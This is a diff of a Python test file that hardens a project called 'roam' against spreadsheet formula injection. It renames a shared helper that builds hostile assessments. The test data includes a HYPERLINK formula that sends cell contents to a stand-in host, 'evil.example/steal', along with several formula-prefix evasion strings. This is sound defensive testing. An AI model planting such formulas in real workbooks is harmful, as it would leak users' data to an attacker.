@@ -23,9 +23,9 @@ from openpyxl import load_workbook
 from roam.assessment.loader import load_assessment
 from roam.assessment.storage import save_assessment
 from roam.framework.loader import load_framework
-from tests.hardening.test_hostile_export import _hostile_assessment
 from tests.helpers.exchange_workbooks import run
 from tests.helpers.files import MINI_FRAMEWORK
+from tests.helpers.hostile_text import hostile_assessment
 
 LINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")'
 PAYLOADS = [
@@ -59,7 +59,7 @@ def _dangerous_start(value: str) -> bool:
 @pytest.fixture(scope="module")
 def hidden_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
     path = tmp_path_factory.mktemp("hidden") / "examplia.yaml"
-    assessment = _hostile_assessment(path, PAYLOADS)
+    assessment = hostile_assessment(path, PAYLOADS)
     assessment.country = "\x07" + LINK
     save_assessment(assessment, path, load_framework(MINI_FRAMEWORK))
     return path
@@ -97,7 +97,7 @@ def test_a_template_with_inert_marks_imports_back_unchanged(tmp_path: Path) -> N
     """roam takes its own mark off when it reads: an untouched template changes nothing."""
     path = tmp_path / "examplia.yaml"
     # Texts a cell can hold as they are (nothing to clean away), so nothing may change.
-    assessment = _hostile_assessment(path, [LINK, "\u200b=1+1", "'=1+1", "\uff1d1", "plain"])
+    assessment = hostile_assessment(path, [LINK, "\u200b=1+1", "'=1+1", "\uff1d1", "plain"])
     assessment.country = "=Examplia"
     save_assessment(assessment, path, load_framework(MINI_FRAMEWORK))
     before = path.read_bytes()
